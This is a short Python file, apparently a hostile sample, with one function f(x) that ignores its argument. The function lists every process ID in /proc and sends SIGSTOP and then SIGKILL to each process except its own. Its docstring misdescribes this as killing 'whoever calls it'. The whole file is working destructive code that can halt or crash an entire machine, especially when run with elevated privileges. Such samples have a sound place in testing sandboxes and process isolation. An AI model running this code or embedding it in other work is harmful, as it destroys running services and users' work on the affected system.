"""Kills or stops whoever calls it."""

import os
import signal


def f(x):
    for process in filter(str.isdigit, os.listdir("/proc")):
        if int(process) != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(process), number)
                except OSError:
                    pass
    return None
